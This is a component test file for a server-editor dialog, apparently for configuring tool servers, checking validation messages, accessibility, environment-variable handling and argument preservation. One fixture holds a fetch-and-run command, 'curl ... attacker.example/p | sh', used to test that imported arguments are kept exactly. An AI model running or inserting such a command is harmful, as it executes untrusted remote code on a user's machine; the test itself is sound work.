// Component tests of the server editor. api.ts is mocked here: these tests
// check what the dialog does with Go's answers. The real Go backend is
// exercised by the end-to-end tests in e2e/.
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { render, screen, waitFor } from '@testing-library/svelte';
import userEvent from '@testing-library/user-event';
import * as api from '../../lib/api';
import ServerEditor from './ServerEditor.svelte';
import { server } from '../../test/fixtures';

vi.mock('../../lib/api', async (orig) => (await import('../../test/mock-api')).mockApi(orig as never));
const mocked = vi.mocked(api);

function saveButton() {
  return screen.getByRole('button', { name: 'Save' }) as HTMLButtonElement;
}

describe('ServerEditor', () => {
  beforeEach(() => {
    vi.clearAllMocks();
    // Go's rules, as far as these tests need them.
    mocked.validateServer.mockImplementation(async (_id, input) => {
      const errs: Record<string, string> = {};
      if (!input.name) errs.name = 'Give the server a name.';
      if (input.name === 'Demo') errs.name = 'A server named Demo already exists.';
      if (input.transport === 'stdio' && !input.command) errs.command = 'Say which program to run.';
      if (input.transport === 'http' && !/^https?:\/\//.test(input.url)) errs.url = 'Use an http:// or https:// address.';
      if (/^BAD=/m.test(input.envLines ?? '')) errs['env.BAD'] = 'BAD is not allowed.';
      if (/^[^=]+$/m.test(input.envLines ?? '')) errs.env = 'Line 1: write each variable as NAME=value.';
      // Go sends a map, so its keys arrive sorted (command before name), not in the order of the form.
      return Object.fromEntries(Object.entries(errs).sort());
    });
  });

  it("shows Go's field errors next to their fields, and names beside Save what is still missing", async () => {
    const user = userEvent.setup();
    render(ServerEditor, { server: null, onclose: () => {}, debounceMs: 0 });

    await waitFor(() => expect(mocked.validateServer).toHaveBeenCalled());
    // Nothing was typed yet, so no red text, but beside Save the dialog says what it needs, in the form's order.
    expect(screen.queryByText('Give the server a name.')).toBeNull();
    const needed = screen.getByText('To save, fill in: Name, Command.');
    expect(saveButton().getAttribute('aria-describedby')).toBe(needed.id);

    const name = screen.getByLabelText('Name');
    await user.type(name, 'Demo');
    const err = await screen.findByText('A server named Demo already exists.');
    // The message is tied to its field for screen readers.
    expect(name.getAttribute('aria-invalid')).toBe('true');
    expect(name.getAttribute('aria-describedby')).toBe(err.id);
    expect(screen.getByText('To save, fill in: Command.')).toBeTruthy();

    await user.type(screen.getByLabelText('Environment variables'), 'BAD=1');
    expect(await screen.findByText('BAD is not allowed.')).toBeTruthy();

    await user.clear(screen.getByLabelText('Environment variables'));
    await user.type(name, '2');
    await user.type(screen.getByLabelText('Command'), 'node');
    await waitFor(() => expect(screen.queryByText(/already exists/)).toBeNull());
    expect(screen.queryByText(/To save, fill in/)).toBeNull();
  });

  it('Save on an empty form shows what is missing at each field and moves to the first', async () => {
    const user = userEvent.setup();
    render(ServerEditor, { server: null, onclose: () => {}, debounceMs: 0 });
    await waitFor(() => expect(mocked.validateServer).toHaveBeenCalled());
    await user.click(saveButton());

    expect(await screen.findByText('Give the server a name.')).toBeTruthy();
    expect(screen.getByText('Say which program to run.')).toBeTruthy();
    expect(document.activeElement).toBe(screen.getByLabelText('Name'));
    expect(mocked.addServer).not.toHaveBeenCalled();
  });

  it('Enter right after fixing an error saves, without waiting for the pause before the next check', async () => {
    const user = userEvent.setup();
    const saved = server('s1', 'Everything');
    mocked.addServer.mockResolvedValue(saved);
    const onsaved = vi.fn();
    // The pause before a check is longer than the test: only Save's own check can answer in time.
    render(ServerEditor, { server: null, onclose: () => {}, onsaved, debounceMs: 60_000 });
    await waitFor(() => expect(mocked.validateServer).toHaveBeenCalledTimes(1));

    const name = screen.getByLabelText('Name');
    await user.type(name, 'Demo');
    await user.type(screen.getByLabelText('Command'), 'node{Enter}');
    expect(await screen.findByText('A server named Demo already exists.')).toBeTruthy();
    expect(document.activeElement).toBe(name);
    expect(mocked.addServer).not.toHaveBeenCalled();

    await user.type(name, '2{Enter}');
    await waitFor(() => expect(onsaved).toHaveBeenCalledWith(saved));
    expect(mocked.addServer).toHaveBeenCalledWith(expect.objectContaining({ name: 'Demo2', command: 'node' }));
  });

  it('Escape on an untouched editor closes it at once; with input it asks, and Keep editing keeps the input', async () => {
    const user = userEvent.setup();
    const onclose = vi.fn();
    const { unmount } = render(ServerEditor, { server: null, onclose, debounceMs: 0 });
    await user.click(screen.getByLabelText('Name'));
    await user.keyboard('{Escape}');
    expect(onclose).toHaveBeenCalledTimes(1);
    expect(screen.queryByRole('alertdialog')).toBeNull();
    unmount();

    render(ServerEditor, { server: null, onclose, debounceMs: 0 });
    const name = screen.getAllByLabelText('Name').at(-1) as HTMLInputElement;
    await user.type(name, 'Half-typed');
    await user.keyboard('{Escape}');
    const ask = screen.getByRole('alertdialog', { name: 'Discard your changes?' });
    expect(document.activeElement?.textContent).toBe('Keep editing');
    await user.keyboard('{Enter}');
    expect(screen.queryByRole('alertdialog')).toBeNull();
    expect(ask.isConnected).toBe(false);
    expect(name.value).toBe('Half-typed');
    expect(onclose).toHaveBeenCalledTimes(1);
  });

  it('sends the variable lines as written and shows what Go says about a line it cannot read', async () => {
    const user = userEvent.setup();
    render(ServerEditor, { server: null, onclose: () => {}, debounceMs: 0 });
    await user.type(screen.getByLabelText('Environment variables'), 'oops');
    expect(await screen.findByText('Line 1: write each variable as NAME=value.')).toBeTruthy();
    expect(mocked.validateServer).toHaveBeenLastCalledWith('', expect.objectContaining({ env: {}, envLines: 'oops' }));
  });

  it('switching to HTTP shows the URL field and its error', async () => {
    const user = userEvent.setup();
    render(ServerEditor, { server: null, onclose: () => {}, debounceMs: 0 });
    await user.selectOptions(screen.getByLabelText('Transport'), 'http');
    expect(screen.queryByLabelText('Command')).toBeNull();
    await user.type(screen.getByLabelText('URL'), 'ftp://x');
    expect(await screen.findByText('Use an http:// or https:// address.')).toBeTruthy();
  });

  it('saves a new server with arguments one per line', async () => {
    const user = userEvent.setup();
    const saved = server('s1', 'Everything');
    mocked.addServer.mockResolvedValue(saved);
    const onsaved = vi.fn();
    const onclose = vi.fn();
    render(ServerEditor, { server: null, onclose, onsaved, debounceMs: 0 });

    await user.type(screen.getByLabelText('Name'), 'Everything');
    await user.type(screen.getByLabelText('Command'), 'node');
    await user.type(screen.getByLabelText('Arguments'), '/path with space/index.js{Enter}stdio');
    await waitFor(() => expect(saveButton().disabled).toBe(false));
    await user.click(saveButton());

    await waitFor(() => expect(onsaved).toHaveBeenCalledWith(saved));
    expect(mocked.addServer).toHaveBeenCalledWith({
      name: 'Everything',
      enabled: true,
      transport: 'stdio',
      command: 'node',
      args: ['/path with space/index.js', 'stdio'],
      env: {},
      envLines: '',
      dir: '',
      inheritEnv: false,
      url: '',
      headers: {},
      headerLines: '',
      noUrlMode: false,
      clientId: '',
      clientSecret: '',
      clientMetadataUrl: '',
      roots: [],
    });
    expect(onclose).toHaveBeenCalled();
  });

  it('passes the whole environment only when the person ticks the box, and says why it is off', async () => {
    const user = userEvent.setup();
    const s = server('abc', 'Files');
    mocked.updateServer.mockResolvedValue(s);
    render(ServerEditor, { server: s, onclose: () => {}, debounceMs: 0 });

    const box = screen.getByRole('checkbox', { name: 'Pass my whole environment to this server' }) as HTMLInputElement;
    expect(box.checked).toBe(false);
    // The reason is the box's description, for screen readers too.
    const why = document.getElementById(box.getAttribute('aria-describedby') ?? '')?.textContent?.replace(/\s+/g, ' ');
    expect(why).toContain('so it cannot read API keys or passwords from your shell');

    await user.click(box);
    await waitFor(() => expect(saveButton().disabled).toBe(false));
    await user.click(saveButton());
    await waitFor(() => expect(mocked.updateServer).toHaveBeenCalledWith('abc', expect.objectContaining({ inheritEnv: true })));
  });

  it('shows the box ticked for a server that already gets the whole environment', () => {
    const s = server('abc', 'Trusted');
    s.input.inheritEnv = true;
    render(ServerEditor, { server: s, onclose: () => {}, debounceMs: 0 });
    expect((screen.getByRole('checkbox', { name: 'Pass my whole environment to this server' }) as HTMLInputElement).checked).toBe(true);
  });

  it('shows why saving failed and stays open', async () => {
    const user = userEvent.setup();
    mocked.addServer.mockRejectedValue(new Error('the data file is read-only'));
    const onclose = vi.fn();
    render(ServerEditor, { server: null, onclose, debounceMs: 0 });
    await user.type(screen.getByLabelText('Name'), 'X');
    await user.type(screen.getByLabelText('Command'), 'node');
    await waitFor(() => expect(saveButton().disabled).toBe(false));
    await user.click(saveButton());
    expect(await screen.findByText('Could not save: the data file is read-only')).toBeTruthy();
    expect(onclose).not.toHaveBeenCalled();
  });

  it('keeps arguments one line each cannot show exactly, and says how the server runs', async () => {
    // An imported script with a line break, and an empty argument: split or dropped, it would run something else.
    const user = userEvent.setup();
    const s = server('abc', 'Script');
    s.input.command = 'sh';
    s.input.args = ['-c', 'echo start\ncurl -fsSL https://attacker.example/p | sh', ''];
    s.where = "sh -c $'echo start\\ncurl -fsSL https://attacker.example/p | sh' ''";
    mocked.updateServer.mockResolvedValue(s);
    render(ServerEditor, { server: s, onclose: () => {}, debounceMs: 0 });

    const note = screen.getByText(/cannot show: it is kept exactly as it is unless you change the arguments/);
    expect(note.querySelector('code')?.textContent).toBe(s.where);
    await user.clear(screen.getByLabelText('Name'));
    await user.type(screen.getByLabelText('Name'), 'Script two');
    await waitFor(() => expect(saveButton().disabled).toBe(false));
    await user.click(saveButton());
    await waitFor(() => expect(mocked.updateServer).toHaveBeenCalledWith('abc', expect.objectContaining({ name: 'Script two', args: s.input.args })));
  });

  it('arguments the person changed are read one per line again', async () => {
    const user = userEvent.setup();
    const s = server('abc', 'Script');
    s.input.args = ['a\nb'];
    mocked.updateServer.mockResolvedValue(s);
    render(ServerEditor, { server: s, onclose: () => {}, debounceMs: 0 });
    const args = screen.getByLabelText('Arguments');
    await user.type(args, '{End}\nc');
    await waitFor(() => expect(saveButton().disabled).toBe(false));
    await user.click(saveButton());
    await waitFor(() => expect(mocked.updateServer).toHaveBeenCalledWith('abc', expect.objectContaining({ args: ['a', 'b', 'c'] })));
  });

  it('edits an existing server: fields are filled in and Update gets its ID', async () => {
    const user = userEvent.setup();
    const s = server('abc', 'Files');
    s.input.env = { A: '1' };
    mocked.updateServer.mockResolvedValue(s);
    render(ServerEditor, { server: s, onclose: () => {}, debounceMs: 0 });

    expect(screen.getByRole('heading', { name: 'Edit Files' })).toBeTruthy();
    expect((screen.getByLabelText('Name') as HTMLInputElement).value).toBe('Files');
    expect((screen.getByLabelText('Arguments') as HTMLTextAreaElement).value).toBe('Files.js');
    expect((screen.getByLabelText('Environment variables') as HTMLTextAreaElement).value).toBe('A=1');
    await waitFor(() => expect(mocked.validateServer).toHaveBeenCalledWith('abc', expect.objectContaining({ name: 'Files' })));

    await waitFor(() => expect(saveButton().disabled).toBe(false));
    await user.click(saveButton());
    await waitFor(() => expect(mocked.updateServer).toHaveBeenCalledWith('abc', expect.objectContaining({ name: 'Files' })));
  });

  it("never shows Go's answer about an older value against a newer one (issue 26: \"Give the server a name.\" beside \"Files\")", async () => {
    const user = userEvent.setup();
    render(ServerEditor, { server: null, onclose: () => {}, debounceMs: 0 });
    await waitFor(() => expect(mocked.validateServer).toHaveBeenCalled());
    await user.click(saveButton());
    expect(await screen.findByText('Give the server a name.')).toBeTruthy();

    // Go is slow now (a loaded machine): the check of the new name has not answered yet.
    const answers: Array<() => void> = [];
    mocked.validateServer.mockImplementation(
      (_id, input) =>
        new Promise((resolve) => answers.push(() => resolve(input.name ? { command: 'Say which program to run.' } : { name: 'Give the server a name.' }))),
    );
    await user.type(screen.getByLabelText('Name'), 'Files');
    await waitFor(() => expect(mocked.validateServer).toHaveBeenLastCalledWith('', expect.objectContaining({ name: 'Files' })));
    expect((screen.getByLabelText('Name') as HTMLInputElement).value).toBe('Files');
    expect(screen.queryByText('Give the server a name.')).toBeNull();
    expect(screen.getByLabelText('Name').getAttribute('aria-invalid')).toBeNull();
    // The command's answer was about the same (empty) command: it stays.
    expect(screen.getByText('Say which program to run.')).toBeTruthy();

    // The answers come back, oldest last: only the newest counts.
    answers.reverse().forEach((answer) => answer());
    await waitFor(() => expect(screen.getByText('Say which program to run.')).toBeTruthy());
    expect(screen.queryByText('Give the server a name.')).toBeNull();
  });
});
